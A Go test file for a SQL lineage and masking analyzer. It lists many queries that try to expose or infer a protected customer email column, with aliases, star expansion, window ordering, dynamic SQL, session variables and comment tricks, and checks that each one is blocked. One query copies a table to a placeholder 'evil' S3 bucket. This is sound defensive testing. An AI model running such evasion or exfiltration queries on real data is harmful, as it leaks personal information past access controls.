package sql

import (
	"strings"
	"testing"
)

// Every text below tries to learn a customer's e-mail address. A strict policy
// that masks outputs with EMAIL in their labels, holds predicates on it and
// holds every doubt must stop each of them.
func TestAttacks(t *testing.T) {
	for _, text := range attacks {
		a, err := Analyze(text, testContext, lineageCatalog())
		v := judge(a, err, map[string]bool{"APP.PUBLIC.C.EMAIL": true})
		if !v.blocked && !v.inference && !v.anyMasked {
			t.Errorf("nothing stops %s", text)
		}
	}
}

// The same policy lets ordinary work pass.
func TestOrdinaryWorkPasses(t *testing.T) {
	for _, text := range ordinary {
		a, err := Analyze(text, testContext, lineageCatalog())
		v := judge(a, err, map[string]bool{"APP.PUBLIC.C.EMAIL": true})
		if v.blocked || v.inference || v.anyMasked {
			t.Errorf("%s is stopped: blocked %v (%s), inference %v, masked %v", text, v.blocked, v.why, v.inference, v.masked)
		}
	}
}

var attacks = []string{
	// names
	`SELECT "EMAIL" FROM "C"`,
	`SELECT c . email FROM c`,
	`SELECT c.EmAiL FROM App.Public.C`,
	`SELECT "APP"."PUBLIC"."C"."EMAIL" FROM c`,
	`SELECT email FROM APP..c`,
	`SELECT x.* FROM c AS x`,
	`SELECT x.$3 FROM c AS x`,
	`SELECT $7 FROM o, c`,
	`SELECT $3 FROM o, c`,
	`SELECT id.email FROM (SELECT OBJECT_CONSTRUCT('email', email) AS id FROM c)`,
	`SELECT x FROM c AS c (a, b, x)`,
	`SELECT b.email FROM c a, c b`,
	`SELECT IDENTIFIER('c.email') FROM c`,
	`SELECT IDENTIFIER($$email$$) FROM IDENTIFIER('app.public.c')`,
	`SELECT email FROM TABLE('c')`,
	`SELECT * FROM TABLE('app.public."C"')`,
	`SET x = 'email'; SELECT IDENTIFIER($x) FROM c`,
	`SET t = 'c'; SELECT * FROM IDENTIFIER($t)`,
	`SET t = 'c'; SELECT * FROM TABLE($t)`,
	`USE SCHEMA public; SELECT email FROM c`,
	`SELECT IDENTIFIER(:col) FROM c`,
	`SELECT email FROM c; SELECT 1`,

	// shadows
	`SELECT id AS email, email AS id FROM c`,
	`SELECT 1 AS id, email AS id FROM c`,
	`WITH o AS (SELECT email AS id FROM c) SELECT id FROM o`,
	`WITH c AS (SELECT email AS id FROM c) SELECT id FROM c`,
	`WITH a AS (SELECT email FROM c), b AS (SELECT * FROM a), a2 AS (SELECT * FROM b) SELECT * FROM a2`,
	`WITH x AS (WITH x AS (SELECT email e FROM c) SELECT * FROM x) SELECT * FROM x`,
	`SELECT (WITH x AS (SELECT email FROM c) SELECT MAX(email) FROM x)`,
	`SELECT a.x FROM (SELECT email x FROM c) a, (SELECT 1 x) b`,
	`SELECT x FROM (SELECT 1 x UNION ALL SELECT email FROM c)`,
	`SELECT x FROM (SELECT 1 x, 2 y UNION ALL BY NAME SELECT 3 y, email x FROM c)`,
	`SELECT y FROM (SELECT id x, email y FROM c) t(y, x) WHERE x = 'a'`,
	`SELECT z FROM (SELECT id FROM o) a, LATERAL (SELECT email z FROM c WHERE c.id = a.id)`,
	`SELECT a FROM c, LATERAL (SELECT email AS a)`,
	`SELECT f.value FROM c, LATERAL FLATTEN(SPLIT(email, '')) f`,
	`SELECT COUNT(*) FROM c, LATERAL FLATTEN(SPLIT(email, 'a')) f`,
	`SELECT COUNT(*) FROM c, TABLE(SPLIT_TO_TABLE(email, 'a'))`,
	`SELECT o.id FROM o JOIN LATERAL (SELECT 1 FROM c WHERE email = 'a') x`,

	// tables called like columns
	`SELECT x.e FROM c AS id, LATERAL (SELECT id.email AS e FROM o LIMIT 1) x`,
	`SELECT (SELECT MAX(id.email) FROM o) AS e FROM c AS id`,
	`SELECT (SELECT MAX(amount.email) FROM o) AS e FROM c AS amount`,
	`SELECT COUNT(*) FROM c AS id WHERE EXISTS (SELECT 1 FROM o WHERE id.email LIKE 'a%')`,
	`SELECT (SELECT (SELECT MAX(amount.email) FROM c x) FROM o) AS e FROM c AS amount`,
	`SELECT (SELECT MAX(TRANSFORM([1], id -> id.email)) FROM o) AS e FROM c AS id`,
	`SELECT (SELECT id.email e FROM (SELECT 1 AS x) o QUALIFY 1 = 1) FROM c AS id`,
	`SELECT (SELECT MAX(k.email) FROM (SELECT 1 AS z) q WHERE (SELECT 2 AS k) = 2) FROM c AS k`,
	`SELECT (SELECT m.k FROM o MATCH_RECOGNIZE (ORDER BY ts MEASURES id.email AS k PATTERN (id) DEFINE id AS 1 = 1) m) FROM c AS id`,
	`SELECT (SELECT t.email FROM information_schema.tables t LIMIT 1) FROM c t`,
	`SELECT (SELECT c.email FROM other.c LIMIT 1) FROM c`,

	// merged columns
	`SELECT $6 FROM o JOIN c USING (id)`,
	`SELECT $7 FROM o JOIN c USING (id)`,
	`SELECT $6 FROM o NATURAL JOIN c`,
	`SELECT 'b' AS x FROM c AS b, o NATURAL JOIN c AS t1`,

	// stars
	`SELECT * FROM c`,
	`SELECT c.* EXCLUDE id FROM c`,
	`SELECT * RENAME email AS id FROM c`,
	`SELECT * EXCLUDE id RENAME email AS id FROM c`,
	`SELECT * REPLACE (email AS id) EXCLUDE name FROM c`,
	`SELECT * ILIKE 'E_A%' FROM c`,
	`SELECT {*} FROM c`,
	`SELECT {* EXCLUDE id} FROM c`,
	`SELECT {c.*} FROM c`,
	`SELECT {* ILIKE '%mail'} FROM c`,
	`SELECT {'a': email} FROM c`,
	`SELECT [email] FROM c`,
	`SELECT ARRAY_CONSTRUCT(*) FROM c`,
	`SELECT HASH(*) FROM c`,
	`SELECT HASH_AGG(*) FROM c`,
	`SELECT COUNT(*, 1) FROM c`,
	`SELECT COUNT(DISTINCT *) FROM c`,
	`SELECT CONCAT(c.*) FROM c`,
	`SELECT COALESCE(* EXCLUDE (id)) FROM c`,

	// values
	`SELECT SUBSTR(email, 1, 1) FROM c`,
	`SELECT LENGTH(email) FROM c`,
	`SELECT email IS NULL FROM c`,
	`SELECT email = 'a' FROM c`,
	`SELECT email BETWEEN 'a' AND 'b' FROM c`,
	`SELECT 'a' IN (email) FROM c`,
	`SELECT ('a', 1) = (email, id) FROM c`,
	`SELECT IFF(email > 'a', 1, 0) FROM c`,
	`SELECT DECODE(email, 'a', 1) FROM c`,
	`SELECT COUNT(CASE WHEN email = 'a' THEN 1 END) FROM c`,
	`SELECT COUNT_IF(email = 'a') FROM c`,
	`SELECT COUNT(NULLIF(email, 'a')) FROM c`,
	`SELECT COUNT(DISTINCT e) FROM (SELECT email e FROM c UNION ALL SELECT 'a')`,
	`SELECT MIN_BY(id, email) FROM c`,
	`SELECT ARRAY_AGG(id) WITHIN GROUP (ORDER BY email) FROM c`,
	`SELECT LISTAGG(id, ',') WITHIN GROUP (ORDER BY email) FROM c`,
	`SELECT ARRAY_AGG(id ORDER BY email) FROM c`,
	`SELECT SUM(id) FILTER (WHERE email = 'a') FROM c`,
	`SELECT ROW_NUMBER() OVER (ORDER BY email) FROM c`,
	`SELECT COUNT(*) OVER (PARTITION BY email) FROM c`,
	`SELECT RANK() OVER w FROM c WINDOW w AS (ORDER BY email)`,
	`SELECT SUM(id) OVER (ORDER BY id ROWS BETWEEN LENGTH(email) PRECEDING AND CURRENT ROW) FROM c`,
	`SELECT LAG(id) OVER (ORDER BY name, email) FROM c`,
	`SELECT FIRST_VALUE(name) IGNORE NULLS OVER (ORDER BY email) FROM c`,
	`SELECT TRUNC(id, d) FROM (SELECT id, LENGTH(email) AS d FROM c)`,
	`SELECT DATEADD(y, y, CURRENT_DATE) FROM (SELECT LENGTH(email) y FROM c)`,
	`SELECT DATE_TRUNC(y, CURRENT_DATE) FROM (SELECT email y FROM c)`,
	`SELECT FILTER([1, 2], x -> x = LENGTH(email)) FROM c`,
	`SELECT REDUCE([1, 2], 0, (a, b) -> a + LENGTH(email)) FROM c`,
	`SELECT TRANSFORM(SPLIT(email, ''), id -> id) FROM c`,
	`SELECT profile[email] FROM c`,
	`SELECT GET(profile, email) FROM c`,
	`SELECT OBJECT_AGG(id, email) FROM c`,
	`SELECT email::variant:a.b[0]::string FROM c`,
	`SELECT (email):x FROM c`,
	`SELECT CAST(email AS VARCHAR) FROM c`,
	`SELECT TRY_CAST(email AS INT) FROM c`,
	`SELECT email COLLATE 'de' FROM c`,
	`SELECT EXTRACT(year FROM TRY_TO_DATE(email)) FROM c`,
	`SELECT TRIM(BOTH 'a' FROM email) FROM c`,
	`SELECT POSITION('a', email) FROM c`,
	`SELECT CURRENT_USER = email FROM c`,
	`SELECT DISTINCT email FROM c`,
	`VALUES ((SELECT MAX(email) FROM c))`,
	`SELECT * FROM VALUES ((SELECT MAX(email) FROM c))`,
	`SELECT (SELECT email) FROM c`,
	`SELECT (SELECT (SELECT email)) FROM c`,
	`SELECT (VALUES (email)) FROM c`,
	`SELECT EXISTS (SELECT email INTERSECT SELECT 'a') FROM c`,
	`SELECT ANY_VALUE(x) FROM (SELECT MAX(email) x FROM c GROUP BY ALL)`,
	`SELECT CONNECT_BY_ROOT email FROM c CONNECT BY PRIOR id = id`,
	`SELECT SYS_CONNECT_BY_PATH(email, '/') FROM c CONNECT BY PRIOR id = id`,
	`SELECT PRIOR email FROM c CONNECT BY PRIOR id = id`,

	// rows
	`SELECT 1 FROM c WHERE email = 'a'`,
	`SELECT 1 FROM c WHERE 'a' = ANY (SELECT email FROM c)`,
	`SELECT 1 FROM c WHERE id = 1 AND (1, 'a') IN (SELECT 1, email FROM c)`,
	`SELECT 1 FROM o WHERE EXISTS (SELECT 1 FROM c WHERE c.email = o.ts)`,
	`SELECT 1 FROM o WHERE id NOT IN (SELECT id FROM c WHERE email LIKE 'a%')`,
	`SELECT 1 FROM o JOIN c ON o.ts = c.email`,
	`SELECT 1 FROM o JOIN (SELECT email ts FROM c) x USING (ts)`,
	`SELECT o.id FROM o NATURAL JOIN (SELECT email ts FROM c)`,
	`SELECT o.id FROM o LEFT JOIN c ON email = 'a'`,
	`SELECT o.id FROM o, c WHERE o.ts = c.email (+)`,
	`SELECT o.id FROM o ASOF JOIN c MATCH_CONDITION (o.ts > c.email) ON o.id = c.id`,
	`SELECT COUNT(*) FROM c GROUP BY email`,
	`SELECT COUNT(*) FROM c GROUP BY SUBSTR(email, 1, 1)`,
	`SELECT COUNT(*) FROM c GROUP BY CUBE (email)`,
	`SELECT COUNT(*) FROM c GROUP BY GROUPING SETS ((id), (email))`,
	`SELECT COUNT(*), LEFT(email, 1) FROM c GROUP BY 2`,
	`SELECT COUNT(*), LEFT(email, 1) x FROM c GROUP BY x`,
	`SELECT id FROM (SELECT id, email e FROM c) GROUP BY ALL HAVING MAX(e) > 'a'`,
	`SELECT id FROM c HAVING MAX(email) > 'a'`,
	`SELECT id FROM c QUALIFY LAG(email) OVER (ORDER BY id) = 'a'`,
	`SELECT id, LAG(email) OVER (ORDER BY id) l FROM c QUALIFY l = 'a'`,
	`SELECT id FROM c ORDER BY email`,
	`SELECT id FROM c ORDER BY UPPER(email) DESC NULLS LAST LIMIT 1`,
	`SELECT id FROM (SELECT id FROM c ORDER BY email LIMIT 1)`,
	`SELECT id FROM c UNION ALL SELECT 1 ORDER BY (SELECT MAX(email) FROM c)`,
	`SELECT id FROM c START WITH email = 'a' CONNECT BY id = PRIOR id`,
	`SELECT id FROM c CONNECT BY PRIOR email = email`,
	`SELECT name FROM c EXCEPT SELECT email FROM c`,
	`SELECT 'guess' INTERSECT SELECT email FROM c`,
	`SELECT 'guess' UNION SELECT email FROM c`,
	`SELECT * FROM (SELECT id, email FROM c) PIVOT (MAX(id) FOR email IN ('a', 'b'))`,
	`SELECT "'a'" FROM (SELECT id, email FROM c) PIVOT (COUNT(id) FOR email IN ('a'))`,
	`SELECT * FROM (SELECT id, email FROM c) PIVOT (MAX(id) FOR email IN (ANY))`,
	`SELECT * FROM o PIVOT (MAX(amount) FOR id IN (SELECT email FROM c))`,
	`SELECT v FROM (SELECT id, email FROM c) UNPIVOT (v FOR n IN (email))`,
	`SELECT n FROM (SELECT id, email FROM c) UNPIVOT (v FOR n IN (email))`,
	`SELECT * FROM c MATCH_RECOGNIZE (ORDER BY id MEASURES a.email AS m PATTERN (a) DEFINE a AS 1 = 1)`,
	`SELECT * FROM c MATCH_RECOGNIZE (ORDER BY email MEASURES a.id AS m PATTERN (a) DEFINE a AS 1 = 1)`,
	`SELECT m FROM c MATCH_RECOGNIZE (ORDER BY id MEASURES MATCH_NUMBER() AS m PATTERN (a) DEFINE a AS a.email = 'x')`,
	`SELECT m FROM c MATCH_RECOGNIZE (ORDER BY id MEASURES id.email AS m PATTERN (id) DEFINE id AS 1 = 1)`,
	`SELECT m FROM c MATCH_RECOGNIZE (ORDER BY id MEASURES 1 AS m PATTERN (c) DEFINE c AS c.email = 'a')`,
	`SELECT m FROM c MATCH_RECOGNIZE (ORDER BY id MEASURES LAST(name.email:x) AS m PATTERN (name) DEFINE name AS 1 = 1)`,
	`SELECT TRANSFORM([1], email -> email) FROM c`,
	`SELECT * FROM c MATCH_RECOGNIZE (PARTITION BY email PATTERN (a) DEFINE a AS 1 = 1)`,
	`SELECT id FROM c AT (TIMESTAMP => (SELECT MAX(email) FROM c)::timestamp)`,
	`SELECT id FROM c LIMIT (SELECT LENGTH(email) FROM c)`,
	`SELECT id FROM c SAMPLE ((SELECT LENGTH(email) FROM c) ROWS)`,
	`SET n = (SELECT LENGTH(email) FROM c LIMIT 1); SELECT id FROM o LIMIT $n`,
	`SELECT SEQ4() FROM TABLE(GENERATOR(ROWCOUNT => (SELECT LENGTH(email) FROM c LIMIT 1)))`,
	`SELECT email FROM c AT (OFFSET => -60)`,
	`SELECT email FROM c BEFORE (STATEMENT => 'x')`,
	`SELECT * FROM c CHANGES (INFORMATION => APPEND_ONLY) AT (OFFSET => -60)`,
	`SELECT 1 FROM c WHERE 1 / IFF(email = 'a', 0, 1) = 1`,
	`SELECT id FROM hidden`,
	`SELECT EXISTS (SELECT * FROM hidden)`,
	`SELECT 1 FROM v WHERE contact = 'x'`,
	`SELECT * FROM vv`,

	// chains, scripts, storage
	`SELECT email FROM c ->> SELECT COUNT(*) FROM $1 WHERE email = 'x'`,
	`SELECT 1 ->> SELECT email FROM c ->> SELECT $1 FROM $1`,
	`SELECT email FROM c ->> SELECT 1 ->> SELECT * FROM $2`,
	`SELECT email FROM c ->> SELECT 1 FROM $3`,
	`SHOW TABLES ->> SELECT * FROM $1`,
	`INSERT INTO o SELECT 1, 1, 1, email FROM c`,
	`INSERT INTO o SELECT 1, 1, 1, email FROM c; SELECT ts FROM o`,
	`CREATE TABLE n AS SELECT email x FROM c`,
	`CREATE VIEW n AS SELECT email x FROM c; SELECT x FROM n`,
	`CREATE TEMP TABLE c AS SELECT 1 id; SELECT id FROM c`,
	`CREATE TABLE n CLONE c`,
	`ALTER TABLE c RENAME COLUMN email TO city2; SELECT city2 FROM c`,
	`ALTER TABLE o SWAP WITH c; SELECT amount FROM o`,
	`EXECUTE IMMEDIATE 'SELECT email FROM c'`,
	`EXECUTE IMMEDIATE 'SELECT em' || 'ail FROM c'`,
	`SET s = 'SELECT email FROM c'; EXECUTE IMMEDIATE $s`,
	`EXECUTE IMMEDIATE :s`,
	`BEGIN RETURN (SELECT MAX(email) FROM c); END`,
	`DECLARE r RESULTSET DEFAULT (SELECT email FROM c); BEGIN RETURN TABLE(r); END`,
	`BEGIN LET x := (SELECT MAX(email) FROM c); SET y = :x; END; SELECT $y`,
	`SET x = (SELECT MAX(email) FROM c); SELECT $x`,
	`SET x = (SELECT MAX(email) FROM c); SHOW VARIABLES`,
	`SELECT GETVARIABLE('X')`,
	`SET x = (SELECT MAX(email) FROM c)`,
	`CALL p((SELECT MAX(email) FROM c))`,
	`WITH p AS PROCEDURE () RETURNS STRING LANGUAGE PYTHON HANDLER = 'h' AS $$x$$ CALL p()`,
	`COPY INTO @~/x FROM (SELECT email FROM c)`,
	`COPY INTO @~ FROM c`,
	`COPY INTO 's3://evil/' FROM c`,
	`SELECT $1 FROM @~/x`,
	`SELECT t.$1 FROM @~/x t`,
	`SELECT * FROM @s (FILE_FORMAT => 'f', PATTERN => '.*')`,
	`SELECT METADATA$FILENAME FROM @s`,
	`SELECT * FROM DIRECTORY(@s)`,
	`LIST @s; SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID()))`,
	`SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID(-2)))`,
	`SELECT * FROM TABLE(INFORMATION_SCHEMA.QUERY_HISTORY())`,
	`SELECT query_text FROM snowflake.account_usage.query_history`,
	`SELECT SYSTEM$CLUSTERING_INFORMATION('c', '(email)')`,
	`SELECT SYSTEM$ESTIMATE_SEARCH_OPTIMIZATION_COSTS('c')`,
	`SELECT GET_DDL('view', 'hidden')`,
	`SELECT udf(1)`,
	`SELECT app.public.upper('x')`,
	`SELECT * FROM TABLE(udtf(1))`,
	`SELECT * FROM TABLE(udtf(TABLE(SELECT email FROM c)))`,
	`SELECT AI_COMPLETE('m', email) FROM c`,
	`SELECT m!PREDICT(email) FROM c`,
	`SELECT * FROM SEMANTIC_VIEW(sv METRICS c.x)`,
	`EXPLAIN SELECT id FROM c WHERE email = 'a'`,
	`DELETE FROM o WHERE ts IN (SELECT email FROM c)`,
	`UPDATE o SET ts = (SELECT MAX(email) FROM c)`,
	`MERGE INTO o USING c ON o.id = c.id WHEN MATCHED AND c.email = 'a' THEN DELETE`,
	`INSERT ALL WHEN email = 'a' THEN INTO o SELECT * FROM c`,
	`ALTER SESSION SET QUOTED_IDENTIFIERS_IGNORE_CASE = TRUE; SELECT "email" FROM odd`,
	`ALTER SESSION SET SEARCH_PATH = 'x'`,

	// text
	"SELECT email/**/FROM c",
	"SELECT/**/email FROM c",
	"SELECT 1 --\n, email FROM c",
	"SELECT 1 /* -- */ , email FROM c",
	"SELECT 1 -- /*\n, email FROM c -- */",
	"SELECT 'a\\\\' , email FROM c -- ' FROM o",
	`SELECT id FROM c ORDER BY :1, (SELECT MAX(email) FROM c)`,
	`SELECT email, id FROM c ORDER BY :position`,
	"SELECT $$ -- $$, email FROM c",
	"SELECT 1 AS \"-- \", email FROM c",
	"SELECT 1;SELECT email FROM c",
	"SELECT 1;;;;SELECT email FROM c;",
	"BEGIN; SELECT email FROM c; COMMIT",
	"BEGIN SELECT email FROM c; END",
	"SELECT TOP 1 email FROM c",
	"SELECT ALL email FROM c",
	"(SELECT email FROM c)",
	"((SELECT 1)) UNION ALL (SELECT email FROM c)",
	"SELECT email FROM (((c)))",
	"SELECT x.email FROM ((c x JOIN o))",
	"SELECT * FROM (c JOIN o) AS x",
	"WITH m AS (email) SELECT m FROM c",
	"WITH m AS (email), n AS (m || 'x') SELECT n FROM c",
	"WITH city AS (email) SELECT city FROM c",
	"WITH m AS (email) SELECT 1 FROM c WHERE m = 'a'",
	"WITH m AS ((SELECT MAX(email) FROM c)) SELECT * FROM m",
	"SELECT {fn UCASE(email)} FROM c",
}

var ordinary = strings.Split(strings.TrimSpace(`
SELECT 1
SELECT 'a\' , email FROM c -- ' FROM o
SELECT 'a'' , id FROM o; SELECT email FROM c -- '
SELECT id, name, city FROM c WHERE id > 5 ORDER BY name LIMIT 10
SELECT * EXCLUDE email FROM c
SELECT COUNT(*) FROM c
SELECT COUNT(email), COUNT(DISTINCT email) FROM c
SELECT city, COUNT(*) AS n FROM c GROUP BY city HAVING n > 1 ORDER BY n DESC
SELECT city, COUNT(*) FROM c GROUP BY ALL
SELECT c.name, SUM(o.amount) FROM c JOIN o ON o.customer_id = c.id GROUP BY 1 ORDER BY 2 DESC NULLS LAST
SELECT DATE_TRUNC('month', ts) AS m, SUM(amount) AS s, LAG(s) OVER (ORDER BY m) FROM o GROUP BY 1 QUALIFY ROW_NUMBER() OVER (ORDER BY s) < 3
WITH m AS (SELECT id, amount FROM o), n AS (SELECT * FROM m) SELECT AVG(amount) FROM n
SELECT o.* FROM o JOIN c ON c.id = o.customer_id
SELECT safe FROM other.v
SELECT contact IS NULL FROM (SELECT id AS contact FROM v)
SELECT profile:a.b::string, f.value FROM c, LATERAL FLATTEN(INPUT => profile:list) f
SELECT DATEADD(day, -7, CURRENT_DATE()), CURRENT_TIMESTAMP, CURRENT_USER(), CURRENT_ROLE()
SELECT * FROM (SELECT city, id FROM c) PIVOT (COUNT(id) FOR city IN ('NY', 'LA'))
SELECT table_name, column_name FROM information_schema.columns WHERE table_schema = 'PUBLIC'
SELECT id FROM o UNION ALL SELECT id FROM c
SHOW TABLES IN SCHEMA app.public
DESCRIBE TABLE c
EXPLAIN SELECT id FROM c
USE WAREHOUSE w
SET d = '2026-01-01'
SELECT id FROM o WHERE ts > ? AND amount IN (:1, :2)
ALTER SESSION SET TIMEZONE = 'UTC'
BEGIN
COMMIT
`), "\n")
